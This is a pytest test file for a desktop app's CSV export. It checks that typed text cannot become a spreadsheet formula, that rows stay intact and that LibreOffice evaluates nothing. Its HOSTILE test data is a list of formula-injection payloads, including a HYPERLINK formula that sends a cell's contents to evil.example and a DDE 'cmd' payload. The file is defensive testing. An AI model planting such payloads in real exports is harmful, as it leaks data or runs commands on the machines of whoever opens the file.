"""Every CSV the app writes: RFC 4180 rows, no spreadsheet formula from typed text, numbers stay numbers.

The class under test: any text a participant types, or an import brings in, in any column
(labels from settings included), is one cell of one row and never starts a formula.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import xml.etree.ElementTree as ET
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tension_desktop.cli import main
from tension_desktop.export.csv_safe import FORMULA_STARTS, csv_text, neutralise
from tension_desktop.model.tension_map import QUADRANTS, Placement
from tension_desktop.store import board, library_path, open_library, people, workshops
from tension_desktop.store import tension_map as map_store

#: Text that spreadsheets (or a naive reader) would turn into a formula, a new row or a new cell.
HOSTILE = [
    "Bob\r=1+1", "Bob\n=1+1", "Bob\r\n=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1",
    "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", " =1+1", "\u00a0=1+1", "\n@x", "\uff1d1+1", "a,b", 'say "hi"',
    "=cmd|' /C calc'!A0", "'=already quoted", "-", "@", "=",
]


def _reader_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _formula_like(cell: str) -> bool:
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in FORMULA_STARTS


@pytest.mark.parametrize("text", HOSTILE)
def test_each_hostile_text_is_one_cell_of_one_row_and_never_a_formula(text):
    rows = _reader_rows(csv_text([["header", "n"], [text, 1], ["after", 2]]))
    assert rows == [["header", "n"], [neutralise(text), "1"], ["after", "2"]]
    assert not _formula_like(rows[1][0])
    if _formula_like(text):
        assert rows[1][0] == "'" + text


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), min_size=1, max_size=5))
def test_any_text_round_trips_as_the_same_rows_with_formulas_neutralised(rows):
    read = _reader_rows(csv_text(rows))
    assert len(read) == len(rows)
    for written, got in zip(rows, read, strict=True):
        assert got == [("'" + t if _formula_like(t) else t) for t in written]
        assert not any(_formula_like(c) for c in got)


def test_numbers_the_app_computes_stay_numbers_and_text_numbers_do_not():
    [row] = _reader_rows(csv_text([[Decimal("-0.2500"), -3, 0.5, "-0.25", None, True]]))
    assert row == ["-0.2500", "-3", "0.5", "'-0.25", "", "True"]


def test_rows_end_with_crlf_and_line_breaks_inside_cells_are_quoted():
    text = csv_text([["a", "Bob\r=1+1"], ["b", "x\ny"]])
    assert text == 'a,"Bob\r=1+1"\r\nb,"x\ny"\r\n'


# -- the real exports, from a real library, through the command line ------------------------------


def _hostile_workshop(data: Path) -> int:
    """A workshop where every text column of the map and board CSVs holds hostile text."""
    lib = open_library(library_path(data))
    try:
        ws = workshops.create_workshop(lib, "=Team", "@Offsite")
        bob = people.add_participant(lib, ws.id, "Bob\r=1+1", "-2+3").id
        ann = people.add_participant(lib, ws.id, "\t=1", "@SUM(A1)").id
        titles = ['=HYPERLINK("http://x","y")', "+1", "@SUM(A1:A2)", "\t=1", "-2+3", "Plain"]
        ids = [people.add_initiative(lib, ws.id, t).id for t in titles]
        for n, iid in enumerate(ids):
            for who in (bob, ann):
                map_store.place(lib, ws.id, Placement(initiative_id=iid, x=0.1 + n / 10, y=0.9 - n / 10,
                                                      participant_id=who, round="revealed"))
        map_store.place(lib, ws.id, Placement(initiative_id=ids[0], x=0.8, y=0.8, participant_id=None,
                                              round="agreed"))
        quadrants = QUADRANTS
        map_store.set_labels(lib, ws.id, quadrants={q: f"=Q{n}+1" for n, q in enumerate(quadrants)},
                             governance={q: f"@G{n}" for n, q in enumerate(quadrants)})
        elements = board.add_elements(lib, ws.id, ["=E1+1", "Data\r\n=2", "+44 20"], None)
        board.move_card(lib, ws.id, elements[0], bob, "must_protect", 0, rationale="-rationale\r=1")
        board.move_card(lib, ws.id, elements[1], ann, "can_flex", 0, rationale="@note")
        return ws.id
    finally:
        lib.close()


@pytest.fixture
def hostile(tmp_path) -> tuple[Path, int]:
    data = tmp_path / "data"
    return data, _hostile_workshop(data)


def _exports(tmp_path: Path, data: Path, wid: int) -> dict[str, bytes]:
    out = {}
    for what in ("map", "board"):
        path = tmp_path / f"{what}.csv"
        assert main(["--data-dir", str(data), "export", what, str(wid), "--out", str(path)]) == 0
        out[what] = path.read_bytes()
    return out


def test_map_and_board_exports_keep_every_hostile_text_in_its_cell(hostile, tmp_path, capsys):
    data, wid = hostile
    files = _exports(tmp_path, data, wid)
    lib = open_library(library_path(data), readonly=True)
    try:
        placements = len(map_store.list_placements(lib, wid))
        cards = len(board.list_cards(lib, wid)) + 1  # + the element nobody sorted
        stored_names = {p.name for p in people.list_participants(lib, wid)}
        stored_titles = {i.title for i in people.list_initiatives(lib, wid)}
    finally:
        lib.close()
    for what, raw in files.items():
        assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with a BOM, so Excel reads it as UTF-8"
        text = raw.decode("utf-8-sig")
        rows = _reader_rows(text)
        width = len(rows[0])
        assert all(len(r) == width for r in rows), what
        assert len(rows) - 1 == (placements if what == "map" else cards), what
        assert text.endswith("\r\n") and text.count("\r\n") >= len(rows)
        text_cells = [c for r in rows[1:] for c in r if c and not _is_number(c)]
        assert text_cells and not any(_formula_like(c) for c in text_cells), what
    map_rows = _reader_rows(files["map"].decode("utf-8-sig"))
    assert "Bob\r=1+1" in stored_names and "+1" in stored_titles  # the store keeps them as typed
    assert {r[1] for r in map_rows[1:]} == {neutralise(n) for n in stored_names} | {"(group)"}
    assert {r[0] for r in map_rows[1:]} == {neutralise(t) for t in stored_titles}
    assert {"Bob\r=1+1", "'=HYPERLINK(\"http://x\",\"y\")", "'+1", "'@SUM(A1:A2)", "'-2+3"} <= {
        c for r in map_rows for c in r}
    assert any(r[6].startswith("'=Q") for r in map_rows[1:]) and any(r[7] == "'@G2" or r[7].startswith("'@G")
                                                                     for r in map_rows[1:])
    assert all(Decimal(r[4]) >= 0 for r in map_rows[1:])  # coordinates are plain numbers


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_the_exports_with_no_formula_and_every_text_as_text(hostile, tmp_path, capsys):
    data, wid = hostile
    files = _exports(tmp_path, data, wid)
    # the check can fail: LibreOffice does evaluate a formula in a CSV it opens
    (tmp_path / "control.csv").write_bytes(b"a\r\n=1+1\r\n")
    profile = tmp_path / "lo-profile"
    subprocess.run(["soffice", f"-env:UserInstallation=file://{profile}", "--headless",
                    "--infilter=CSV:44,34,76,1", "--convert-to", "fods", "--outdir", str(tmp_path),
                    *(str(tmp_path / f"{w}.csv") for w in (*files, "control"))],
                   check=True, capture_output=True, timeout=180)
    assert _formulas(tmp_path / "control.fods") == ["of:=1+1"]
    for what, raw in files.items():
        sheet = tmp_path / f"{what}.fods"
        assert _formulas(sheet) == [], what
        shown = _cells(sheet)
        written = _reader_rows(raw.decode("utf-8-sig"))
        assert len(shown) == len(written), what
        for got, row in zip(shown, written, strict=True):
            assert len(got) <= len(row)
            for s, w in zip(got + [""] * (len(row) - len(got)), row, strict=True):
                if _is_number(w):  # LibreOffice shows 0.2500 as 0.25: the same number
                    assert Decimal(s) == Decimal(w), (what, row)
                else:  # text shows as written, apostrophe included; a CR in a cell is a line break
                    assert s == w.replace("\r\n", "\n").replace("\r", "\n"), (what, row)


_NS = {"table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
       "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
       "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0"}


def _formulas(fods: Path) -> list[str]:
    key = f"{{{_NS['table']}}}formula"
    return [e.get(key) for e in ET.parse(fods).iter() if e.get(key)]


def _cells(fods: Path) -> list[list[str]]:
    """The text each cell shows, row by row (trailing empty cells dropped)."""
    def para(p: ET.Element) -> str:
        out = p.text or ""
        for child in p:
            tag = child.tag.split("}")[1]
            if tag == "s":
                out += " " * int(child.get(f"{{{_NS['text']}}}c", "1"))
            elif tag == "tab":
                out += "\t"
            elif tag == "line-break":
                out += "\n"
            else:
                out += para(child)
            out += child.tail or ""
        return out

    rows = []
    for row in ET.parse(fods).iter(f"{{{_NS['table']}}}table-row"):
        cells = []
        for c in row.findall("table:table-cell", _NS):
            repeat = int(c.get(f"{{{_NS['table']}}}number-columns-repeated", "1"))
            value = "\n".join(para(p) for p in c.findall("text:p", _NS))
            cells.extend([value] * min(repeat, 50))
        while cells and cells[-1] == "":
            cells.pop()
        if cells:
            rows.append(cells)
    return rows
